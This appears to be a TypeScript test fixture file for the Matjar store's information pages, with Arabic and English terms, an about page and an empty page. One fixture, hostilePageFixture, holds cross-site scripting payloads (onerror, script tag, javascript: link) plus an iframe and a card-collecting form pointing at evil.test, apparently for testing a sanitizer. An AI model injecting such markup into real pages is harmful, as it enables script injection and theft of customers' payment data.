import type { InfoPage } from '@matjar/api-client';

/** The terms as the store writes them in Arabic: headings, paragraphs, a list and two links. */
export const arabicTermsFixture: InfoPage = {
  title: 'الشروط والأحكام',
  content: [
    '<h2>الطلبات والأسعار</h2>',
    '<p>باستخدامك <strong>متجر</strong> فإنك توافق على هذه الشروط. الأسعار بالريال السعودي وتشمل ضريبة القيمة المضافة.</p>',
    '<h2>الإلغاء والإرجاع</h2>',
    '<ul><li>يمكنك إلغاء الطلب قبل شحنه.</li><li>يمكنك إرجاع المنتجات غير المستخدمة خلال سبعة أيام من الاستلام.</li></ul>',
    '<p>لمزيد من التفاصيل راجع <a href="/faqs">الأسئلة الشائعة</a> أو موقع <a href="https://mc.gov.sa/ar">وزارة التجارة</a>.</p>',
  ].join(''),
};

/** The terms as the store writes them in English. */
export const englishTermsFixture: InfoPage = {
  title: 'Terms and conditions',
  content: [
    '<h2>Orders and prices</h2>',
    '<p>By using <strong>Matjar</strong> you agree to these terms. Prices are in Saudi riyals and include VAT.</p>',
    '<h2>Cancelling and returning</h2>',
    '<ul><li>You may cancel an order before it ships.</li><li>You may return unused products within seven days of delivery.</li></ul>',
    '<p>For details see the <a href="/faqs">frequently asked questions</a> or the <a href="https://mc.gov.sa/en">Ministry of Commerce</a>.</p>',
  ].join(''),
};

/** A page the store still sends as plain text with blank-line paragraphs. */
export const plainTextAboutFixture: InfoPage = {
  title: 'من نحن',
  content:
    'متجر منصة سعودية للتسوق الإلكتروني تجمع أفضل المتاجر المحلية في مكان واحد.\n\nنوصل طلباتك إلى باب بيتك في جميع مدن المملكة،\nونتيح لك الدفع عند الاستلام أو بالبطاقة أو من محفظتك.',
};

/** A page someone tampered with: every trick below must come out harmless. */
export const hostilePageFixture: InfoPage = {
  title: 'سياسة الخصوصية',
  content: [
    '<p>نحترم خصوصيتك.</p>',
    '<img src=x onerror="document.title = \'hacked\'">',
    '<script>document.title = "hacked"</script>',
    '<p><a href="javascript:document.title=\'hacked\'">اضغط هنا</a></p>',
    '<iframe src="https://evil.test/phish" title="evil"></iframe>',
    '<form action="https://evil.test/steal"><input name="card" aria-label="card"><button>ادفع</button></form>',
  ].join(''),
};

/** The terms before the store wrote them. */
export const emptyTermsFixture: InfoPage = { title: 'الشروط والأحكام', content: '  ' };
